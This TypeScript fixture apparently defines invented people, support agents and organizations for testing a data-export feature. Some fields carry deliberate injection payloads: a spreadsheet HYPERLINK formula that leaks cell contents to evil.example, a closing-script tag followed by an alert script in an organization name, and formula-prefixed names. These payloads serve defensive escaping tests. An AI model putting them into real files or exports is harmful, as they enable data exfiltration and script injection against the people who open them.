/** Who is in Vekora's sample database. Everybody is invented; addresses are from the ranges kept for documentation. */

export interface Person {
  readonly id: string;
  readonly email: string;
  readonly name: string;
  readonly organizationName: string | null;
  readonly locale: string;
  readonly timezone: string;
  readonly country: string;
  readonly city: string;
  readonly ipAddresses: readonly string[];
}

/** The person whose data the demo exports. */
export const mainSubject = "acc_7Q2M9XKD";
export const mainSubjectEmail = "zoe.oconnor@northwind-labs.example";
/** Somebody who signed up and did nothing yet: an account, and otherwise empty datasets. */
export const newSubject = "acc_HZ4V1NEW";

const main: Person = {
  id: mainSubject,
  email: mainSubjectEmail,
  name: 'Zoë "Zed" O\'Connor, née Nakagawa 🦊',
  organizationName: '=HYPERLINK("https://evil.example/?leak="&A1,"Northwind Labs")',
  locale: "en-IE",
  timezone: "Europe/Dublin",
  country: "IE",
  city: "Dún Laoghaire",
  ipAddresses: ["203.0.113.7", "203.0.113.88", "203.0.113.204", "2001:db8:7a:1::42"],
};

const others: readonly Person[] = [
  other(1, "acc_1B4W8HZT", "Bartholomew Quillfeather", "bartholomew@quokka-robotics.example", "AU", "Hobart"),
  other(2, "acc_3F6Y2RNC", "Seraphina Dzhanibekova", "seraphina@steppe-analytics.example", "KZ", "Almaty"),
  other(3, "acc_5K9D4VPM", "Ignatius Featherstonehaugh-Oyelaran", "ignatius@lagos-lathe.example", "NG", "Lagos"),
  other(4, "acc_8T1G6XQS", "מרים בן־שושן", "miriam@negev-solar.example", "IL", "באר שבע"),
  other(5, "acc_9C7J3LWF", "田中エレオノーラ", "eleonora@kanda-books.example", "JP", "東京"),
  other(6, "acc_AE2N5BUK", "@SUM(Xanthippe Vandergelder)", "xanthippe@delft-dikes.example", "NL", "Delft"),
  other(7, "acc_BR8P0MHD", "'Wolfgang Amadé Thistlewood", "wolfgang@salzach-sound.example", "AT", "Salzburg"),
];

const newcomer = other(8, newSubject, "Philomena Greenacre-Ito", "philomena@fresh-start.example", "US", "Duluth");

/** People with a history, the main subject in their midst. */
export const activePeople: readonly Person[] = [...others.slice(0, 3), main, ...others.slice(3)];
export const people: readonly Person[] = [...activePeople, newcomer];
/** Everybody but the main subject: nothing of theirs may be in the main subject's bundle. */
export const otherSubjects: readonly Person[] = people.filter(({ id }) => id !== mainSubject);
/** What gives another subject away, wherever it turns up and however it is escaped: ids, addresses, names, IP addresses. */
export const otherSubjectMarkers: readonly string[] = otherSubjects.flatMap(({ id, email, name, ipAddresses }) => [
  id,
  email,
  name,
  longestWord(name),
  ...ipAddresses,
]);

function longestWord(name: string): string {
  return (name.match(/\p{L}+/gu) ?? [name]).reduce((longest, word) => (word.length > longest.length ? word : longest));
}

function other(n: number, id: string, name: string, email: string, country: string, city: string): Person {
  const ipAddresses = [`198.51.100.${n + 10}`, `198.51.100.${n + 110}`, `2001:db8:beef:${n}::${n}`];
  return { id, email, name, organizationName: null, locale: "en", timezone: "UTC", country, city, ipAddresses };
}

export const agents = [
  { id: "agt_X41", name: "Ottilie Brandt-Kessler", email: "ottilie.brandt-kessler@vekora.example" },
  { id: "agt_X42", name: "Thaddeus Okonjo-Lindqvist", email: "thaddeus.okonjo-lindqvist@vekora.example" },
  { id: "agt_X43", name: "Marisol Etxeberria-Vance", email: "marisol.etxeberria-vance@vekora.example" },
  { id: "agt_X44", name: "Anselm Fitzwarren-Adeyemi", email: "anselm.fitzwarren-adeyemi@vekora.example" },
] as const;
/** Support staff: third parties, whose names are redacted. */
export const agentNames: readonly string[] = agents.map(({ name }) => name);
/** Their keys, which leave as pseudonyms. */
export const agentIds: readonly string[] = agents.map(({ id }) => id);

export const organizations = [
  { id: "org_2KD7", name: "Northwind Labs </script><script>alert('org')</script>", created_at: "2022-06-30T08:00:00Z" },
  { id: "org_5QRX", name: 'Quokka Robotics, "Pty" Ltd', created_at: "2021-02-11T08:00:00Z" },
  { id: "org_8STA", name: "Steppe Analytics", created_at: "2021-09-03T08:00:00Z" },
] as const;
